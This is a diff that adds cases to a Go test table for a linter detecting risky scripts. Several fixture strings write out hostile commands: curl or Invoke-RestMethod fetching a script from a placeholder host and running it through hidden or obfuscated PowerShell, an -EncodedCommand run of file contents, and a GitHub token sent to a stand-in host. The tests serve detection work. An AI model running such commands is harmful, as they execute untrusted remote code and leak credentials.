@@ -58,6 +58,11 @@ var codeCases = []lintCase{
 	{"f.ps1", "remote-exec", "$s = Invoke-RestMethod https://x.example/a.ps1\n& (gcm i*e*x) $s\n", "warning", 2},
 	{"f.ps1", "dynamic-exec", "& (Get-Command git) status\n", "", 0},
 	{"f.ps1", "dynamic-exec", "$run = Get-Command I*-Ex*ion\n& $run $body\n", "warning", 2},
+	// The PowerShell host's options that take a value are not its script;
+	// -EncodedCommand of a value the analysis cannot see hides what runs.
+	{"run.sh", "remote-exec", "c=$(curl -s https://x.example/a.ps1)\npowershell -nop -w hidden -c \"$c\"\n", "warning", 2},
+	{"run.sh", "remote-exec", "c=$(curl -s https://x.example/a.ps1)\npowershell -nop -w hidden -File c.ps1 \"$c\"\n", "", 0},
+	{"run.sh", "eval-decode", "e=$(cat payload.txt)\npwsh -NoProfile -EncodedCommand \"$e\"\n", "error", 2},
 	// Go reads as JavaScript does, with := and a, b := f()
 	{"my-prs.sh", "secret-exfil", "t=$(gh auth token)\ncurl -fsS -H \"Authorization: Bearer $t\" https://api.github.com/user\n", "", 0},
 	{"my-prs.sh", "secret-exfil", "t=$(gh auth token)\ncurl -fsS -H \"Authorization: Bearer $t\" https://gh-stats.example/user\n", "error", 2},
